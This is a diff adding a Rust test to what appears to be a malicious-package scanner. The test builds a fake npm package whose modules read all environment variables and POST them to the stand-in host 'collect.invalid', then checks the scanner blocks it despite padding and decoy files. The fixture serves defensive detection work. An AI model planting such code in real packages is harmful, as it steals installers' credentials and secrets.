@@ -107,3 +107,35 @@ fn a_command_does_what_it_is_started_for() {
     // Nobody starts a command to have secrets sent.
     assert_eq!(verdict_of(command, THIEF), "block");
 }
+
+#[test]
+fn an_attack_over_several_files_is_followed_whatever_lies_beside_it() {
+    let manifest = r#"{"name":"inert","version":"1.0.0","main":"index.js"}"#;
+    let collects = "module.exports = () => JSON.stringify(process.env);\n";
+    let sends = "const https = require('https');\nmodule.exports = (t) => { const r = https.request({host: 'collect.invalid', \
+                 method: 'POST'}); r.end(t); };\n";
+    // In a package of hardly any code less is needed.
+    let rest = "exports.one = (a) => a + 1;\n".repeat(1000);
+    let verdict_of = |sender: &str, others: usize| {
+        let path = format!("package/{sender}.js");
+        let mut index = format!("const e = require('./lib/a'), s = require('./{sender}');\ns(e());\n");
+        let others: Vec<String> = (0..others).map(|n| format!("package/o/{n}.js")).collect();
+        for other in &others {
+            index
+                .push_str(&format!("require('./{}');\n", other.trim_start_matches("package/").trim_end_matches(".js")));
+        }
+        let mut files = vec![
+            ("package/package.json", manifest),
+            ("package/index.js", index.as_str()),
+            ("package/lib/a.js", collects),
+            (path.as_str(), sends),
+            ("package/rest.js", rest.as_str()),
+        ];
+        files.extend(others.iter().map(|path| (path.as_str(), "exports.get = (u) => fetch(u);\n")));
+        verdict(&files)
+    };
+    assert_eq!(verdict_of("lib/b", 0), "block");
+    for (sender, others) in [("test/b", 0), ("lib/b.min", 0), ("lib/b", 60)] {
+        assert_eq!(verdict_of(sender, others), "block", "{sender} {others}");
+    }
+}
